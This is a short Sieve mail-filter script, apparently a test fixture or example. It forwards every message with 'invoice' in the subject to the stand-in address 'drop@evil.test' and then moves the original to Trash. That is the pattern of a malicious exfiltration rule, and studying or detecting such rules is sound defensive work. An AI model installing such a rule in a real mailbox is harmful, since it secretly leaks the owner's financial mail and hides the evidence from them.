### 1. Sieve generated for save-on-SMTP identities
# You do not have any identities with special fileinto.
require ["editheader", "fileinto", "imap4flags", "mailbox", "mailboxid", "variables", "copy", "vnd.cyrus.jmapquery", "vnd.cyrus.log", "duplicate", "relational", "date"];
set "L0_forward" "";
if allof(not string :is "${stop}" "Y", jmapquery text:
  {
     "conditions" : [ { "subject" : "invoice" } ],
     "operator" : "AND"
  }
.
) {
  set "L1_forward" "Y";
  set "deletetotrash" "Y";
}
if string :is "${L1_forward}" "Y" {
  redirect :copy "drop@evil.test";
}
if string :is "${deletetotrash}" "Y" {
  fileinto :mailboxid "x" "Trash";
  set "stop" "Y";
}
